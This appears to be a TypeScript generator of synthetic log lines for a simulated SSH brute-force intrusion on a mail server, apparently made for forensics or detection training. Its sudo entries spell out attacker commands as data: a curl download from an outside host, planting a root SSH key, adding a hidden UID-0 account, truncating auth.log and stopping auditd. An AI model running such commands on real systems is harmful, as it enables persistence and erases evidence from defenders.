import { hosts, outsiders } from './city.ts';
import { authLine } from './formats.ts';
import { MINUTE, SECOND, type Script } from './step.ts';

const VICTIM = 'vanthu';
const GUESSES = [
  'root',
  'admin',
  'test',
  'postmaster',
  'oracle',
  'root',
  'support',
  VICTIM,
  VICTIM,
  VICTIM,
] as const;

/** Stage one: passwords are guessed at the mail server until one fits; then the intruder makes himself at home. */
export function playMailIntrusion(script: Script): void {
  script.notice(3 * MINUTE, `Passwords are guessed at ${hosts.mail.name}.`);
  guess(script, 3 * MINUTE);
  script.notice(9 * MINUTE, `One of them fits: ${VICTIM} signs in from ${outsiders.guesser}.`);
  signIn(script, 9 * MINUTE);
  settleDown(script, 11 * MINUTE);
}

function guess(script: Script, from: number): void {
  const { random } = script;
  for (const [index, user] of GUESSES.entries()) {
    const at = from + index * 31 * SECOND;
    const pid = 14_000 + index * 7;
    const port = random.int(30_000, 60_000);
    const peer = `${outsiders.guesser} port ${port}`;
    const known = user === VICTIM || user === 'root';
    const messages = [
      ...(known ? [] : [`Invalid user ${user} from ${peer}`]),
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${outsiders.guesser}${known ? `  user=${user}` : ''}`,
      `Failed password for ${known ? '' : 'invalid user '}${user} from ${peer} ssh2`,
      `Connection closed by ${known ? 'authenticating' : 'invalid'} user ${user} ${peer} [preauth]`,
    ];
    for (const [step, message] of messages.entries()) {
      authLine(script, at + step * 700, { log: 'mail-auth', app: 'sshd', pid, message });
    }
  }
}

function signIn(script: Script, at: number): void {
  const peer = `${outsiders.guesser} port 41872`;
  const ssh = (offsetMs: number, message: string): void => {
    authLine(script, at + offsetMs, { log: 'mail-auth', app: 'sshd', pid: 14_201, message });
  };
  ssh(0, `Accepted password for ${VICTIM} from ${peer} ssh2`);
  ssh(150, `pam_unix(sshd:session): session opened for user ${VICTIM}(uid=1021) by ${VICTIM}(uid=0)`);
  authLine(script, at + 300, {
    log: 'mail-auth',
    app: 'systemd-logind',
    pid: 611,
    message: `New session 4711 of user ${VICTIM}.`,
  });
}

/** Root by sudo, a key for next time, an account beside it, and the traces wiped. */
function settleDown(script: Script, from: number): void {
  const home = `/home/${VICTIM}`;
  const commands = [
    '/usr/bin/id',
    '/bin/bash',
    `/usr/bin/tee -a /root/.ssh/authorized_keys`,
    `/usr/bin/curl -o /tmp/.x11 http://${outsiders.depot}/x11`,
    '/usr/bin/chmod 777 /tmp/.x11',
    '/usr/sbin/useradd -o -u 0 -g 0 -M mailsync',
    '/usr/bin/truncate -s 0 /var/log/auth.log',
    '/usr/bin/systemctl stop auditd',
  ];
  for (const [index, command] of commands.entries()) {
    const at = from + index * 40 * SECOND;
    const sudo = `${VICTIM} : TTY=pts/1 ; PWD=${home} ; USER=root ; COMMAND=${command}`;
    authLine(script, at, { log: 'mail-auth', app: 'sudo', pid: 14_260 + index, message: sudo });
    if (!command.includes('useradd')) continue;
    const added =
      'new user: name=mailsync, UID=0, GID=0, home=/home/mailsync, shell=/bin/sh, from=/dev/pts/1';
    authLine(script, at + 400, { log: 'mail-auth', app: 'useradd', pid: 14_291, message: added });
  }
  const hop = `Accepted password for root from ${hosts.mail.address} port 52110 ssh2`;
  authLine(script, from + 6 * MINUTE, { log: 'syslog', app: 'sshd', pid: 2290, message: hop });
}
